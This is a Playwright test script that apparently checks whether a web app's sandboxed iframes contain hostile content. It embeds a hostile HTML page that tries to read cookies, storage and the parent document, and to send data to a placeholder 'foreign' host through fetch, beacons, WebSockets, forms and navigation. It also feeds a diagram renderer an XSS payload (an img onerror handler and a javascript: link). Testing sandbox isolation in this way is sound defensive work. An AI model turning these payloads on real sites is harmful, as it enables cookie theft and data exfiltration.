// Shows hostile documents in the frames of the page, in Chromium, and prints what they could do.
import { createRequire } from "node:module";
const [, , url, foreign, chromium] = process.argv;
const { chromium: engine } = createRequire(new URL("../../web/package.json", import.meta.url))("playwright-core");

const HOSTILE = `<!doctype html><body><p id="seen">shown</p><script>
  const told = {};
  const attempt = async (name, act) => {
    try { told[name] = await Promise.race([act(), new Promise((end) => setTimeout(end, 1500, "nothing"))]); }
    catch (error) { told[name] = "refused"; }
  };
  const loaded = (tag, key, value) => new Promise((end) => {
    const element = document.createElement(tag);
    element.onload = () => end("loaded");
    element.onerror = () => end("refused");
    element[key] = value;
    document.body.append(element);
  });
  (async () => {
    await attempt("script", () => "ran");
    await attempt("origin", () => self.origin);
    await attempt("cookie", () => document.cookie || "none");
    await attempt("storage", () => localStorage.length);
    await attempt("parent", () => parent.document.title);
    await attempt("api", () => fetch("${url}/api/v2/me", { credentials: "include" }).then((r) => r.status));
    await attempt("fetch", () => fetch("${foreign}/fetch", { mode: "no-cors" }).then(() => "sent"));
    await attempt("beacon", () => (navigator.sendBeacon("${foreign}/beacon", "x"), "tried"));
    await attempt("image", () => loaded("img", "src", "${foreign}/image"));
    await attempt("module", () => import("${foreign}/module.js").then(() => "loaded"));
    await attempt("style", () => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "${foreign}/style"; document.head.append(link); return "tried"; });
    await attempt("prefetch", () => { const link = document.createElement("link"); link.rel = "prefetch"; link.href = "${foreign}/prefetch"; document.head.append(link); return "tried"; });
    await attempt("socket", () => new Promise((end) => { const s = new WebSocket("${foreign.replace("http", "ws")}/socket"); s.onopen = () => end("open"); s.onerror = () => end("refused"); }));
    await attempt("events", () => new Promise((end) => { const s = new EventSource("${foreign}/events"); s.onopen = () => end("open"); s.onerror = () => end("refused"); }));
    await attempt("frame", () => loaded("iframe", "src", "${foreign}/frame").then(() => "tried"));
    await attempt("worker", () => new Promise((end) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => end("ran"); w.onerror = () => end("refused"); }));
    await attempt("form", () => { const f = document.createElement("form"); f.action = "${foreign}/form"; document.body.append(f); f.submit(); return "tried"; });
    await attempt("popup", () => String(open("${foreign}/popup")));
    await attempt("top", () => { top.location = "${foreign}/top"; return "tried"; });
    await attempt("peer", () => typeof RTCPeerConnection);
    parent.postMessage(told, "*");
    setTimeout(() => { location = "${foreign}/away"; }, 300);
  })();
</script>`;

const browser = await engine.launch({ executablePath: chromium, args: ["--no-sandbox"] });
const page = await browser.newPage();
const blocked = [];
page.on("console", (message) => {
  if (message.type() === "error") blocked.push(message.text());
});
await page.goto(`${url}/`);
const told = await page.evaluate(
  (html) =>
    new Promise((end) => {
      document.cookie = "mark=1";
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.src = "/frames/document.html";
      addEventListener("message", (event) => {
        if (event.source !== frame.contentWindow) return;
        if (event.data === "ready") frame.contentWindow.postMessage({ html }, "*");
        else end({ ...event.data, speaker: event.origin });
      });
      document.body.append(frame);
    }),
  HOSTILE,
);
await page.waitForTimeout(1500);
const diagram = await page.evaluate(
  () =>
    new Promise((end) => {
      const frame = document.createElement("iframe");
      frame.setAttribute("sandbox", "allow-scripts");
      frame.src = "/frames/diagram.html";
      const source = "graph TD\n  A[\"<img src=x onerror=parent.postMessage(1,'*')>\"] --> B[End]\n  click A \"javascript:alert(1)\"";
      const heard = [];
      addEventListener("message", (event) => {
        if (event.source !== frame.contentWindow) return;
        heard.push(Object.keys(event.data).join());
        if (event.data.ready) frame.contentWindow.postMessage({ source, dark: false, font: "sans-serif" }, "*");
        else setTimeout(end, 500, heard);
      });
      document.body.append(frame);
    }),
);
const at = page.url();
await browser.close();
console.log(JSON.stringify({ told, at, diagram }));
